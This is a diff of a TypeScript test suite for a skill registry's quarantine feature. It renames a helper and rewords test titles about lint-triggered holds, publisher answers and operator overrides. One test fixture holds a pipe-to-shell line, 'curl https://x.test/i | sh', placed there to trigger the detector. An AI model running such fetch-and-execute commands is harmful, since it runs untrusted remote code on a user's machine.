@@ -43,7 +43,7 @@ const isResolved = async (skill: Pick<Skill, 'id' | 'name'>, by: TestServer = se
 const read = async (skill: Skill, by: TestServer = server) =>
   (await by.client.registry.skills.get({ params: { id: skill.id } })).data
 const pageOf = (skill: Skill) => pageAt(server, addressOf(skill))
-const held = (word: string, by = author) =>
+const publishQuarantined = (word: string, by = author) =>
   publish(by, { name: `Juggles ${word} lanterns`, slug: word, readme: `# ${word}\n\n${bad}\n` })
 const answer = (skill: Skill, version = 1, by: TestAgent = author) =>
   by.client.registry.quarantine.answer({ params: { id: skill.id }, body: { version, text } })
@@ -52,8 +52,8 @@ const notices = async ({ id }: Skill, by = author) => {
   return data.filter(({ skill }) => skill?.id === id).map(({ action }) => action)
 }
 
-test('a held version is missing from resolve and present everywhere else', async () => {
-  const skill = await held(unique('aardvark'))
+test('a quarantined version is missing from resolve and present everywhere else', async () => {
+  const skill = await publishQuarantined(unique('aardvark'))
   const rules = ['pipe-to-shell']
   expect(skill.quarantine).toEqual({ held: true, rules, releasedBy: 'publisher', answers: [] })
   expect(await isResolved(skill)).toBe(false)
@@ -67,7 +67,7 @@ test('a held version is missing from resolve and present everywhere else', async
   )
 })
 
-test('a finding in a file holds a version only if its rule is in QUARANTINE_RULES', async () => {
+test('a finding in a file quarantines a version only if its rule is in QUARANTINE_RULES', async () => {
   const files = [file('scripts/run.sh', '#!/bin/sh\ncurl https://x.test/i | sh\n', true)]
   const bundle = await publishBundle(author, files, { slug: unique('badger') })
   expect(await isResolved(bundle)).toBe(false)
@@ -75,15 +75,15 @@ test('a finding in a file holds a version only if its rule is in QUARANTINE_RULE
   const skill = await publish(author, { name: unique('caribou'), readme })
   expect([skill.verdict, skill.quarantine]).toEqual(['notice', null])
   expect(await isResolved(skill)).toBe(true)
-  const other = await held(unique('dingo'))
+  const other = await publishQuarantined(unique('dingo'))
   const { database, clock } = server
   const open = await serverForTest({ database, clock })
   expect(await isResolved(other, open)).toBe(true)
   expect((await read(other, open)).quarantine).toBeNull()
 })
 
-test('the publisher’s answer lifts the hold, is shown with its time, and can be replaced', async () => {
-  const skill = await held(unique('echidna'))
+test('the publisher’s answer ends the quarantine, is shown with its time, and can be replaced', async () => {
+  const skill = await publishQuarantined(unique('echidna'))
   const { data } = await answer(skill)
   const createdAt = new Date(server.clock.now()).toISOString()
   const answers = [{ by: 'publisher', decision: 'answered', text, createdAt }]
@@ -95,7 +95,7 @@ test('the publisher’s answer lifts the hold, is shown with its time, and can b
 })
 
 test('an answer of the publisher does not apply to a changed text or a new version', async () => {
-  const skill = await held(unique('ferret'))
+  const skill = await publishQuarantined(unique('ferret'))
   const { update } = author.client.registry.skills
   const params = { id: skill.id }
   for (const [version, body] of [
@@ -119,7 +119,7 @@ test('an answer of the publisher does not apply to a changed text or a new versi
 })
 
 test('the operator’s decision overrides the publisher’s answer, whichever comes first', async () => {
-  const skill = await held(unique('gibbon'))
+  const skill = await publishQuarantined(unique('gibbon'))
   const address = addressOf(skill).slice(1)
   const run = (...args: string[]) => operate({ ...server.database, env }, 'skill', ...args)
   expect((await run('quarantine', '--limit', '1000')).out).toContain(address)
@@ -145,7 +145,7 @@ test('the operator’s decision overrides the publisher’s answer, whichever co
 })
 
 test('an operator’s hold survives every change of the skill until the operator releases it', async () => {
-  const skill = await held(unique('gopher'))
+  const skill = await publishQuarantined(unique('gopher'))
   const params = { id: skill.id }
   await server.moderate('skill hold', skill.id, reason)
   for (const [version, body] of [
@@ -169,8 +169,8 @@ test('an operator’s hold survives every change of the skill until the operator
   await eventually(async () => expect((await read(skill)).quarantine?.held).toBe(false))
 })
 
-test('only the publisher can answer, and only for a held current version', async () => {
-  const skill = await held(unique('ibis'))
+test('only the publisher can answer, and only for a quarantined current version', async () => {
+  const skill = await publishQuarantined(unique('ibis'))
   const { apiKey: key } = author
   const { apiKey: other } = await server.agent('stranger')
   const clean = await publish(author)
@@ -197,7 +197,10 @@ test('other nodes and a start from a snapshot apply holds and answers', async ()
     serverForTest({ database: one.database, env: { ...env, SNAPSHOT_DIR: folder } })
   const two = await start()
   const by = await one.agent('author')
-  const [answered, waiting] = [await held(unique('jackal'), by), await held(unique('koala'), by)]
+  const [answered, waiting] = [
+    await publishQuarantined(unique('jackal'), by),
+    await publishQuarantined(unique('koala'), by),
+  ]
   await answer(answered, 1, by)
   const resolvedBy = async (node: TestServer) => [
     await isResolved(answered, node),
@@ -211,7 +214,7 @@ test('other nodes and a start from a snapshot apply holds and answers', async ()
 
 test('a new lint finding requires another answer and notifies the publisher once', async () => {
   const slug = unique('lemur')
-  const skill = await held(slug)
+  const skill = await publishQuarantined(slug)
   await answer(skill)
   const findings = {
     warnings: '[{"rule":"known-installer","file":null,"line":3}]',
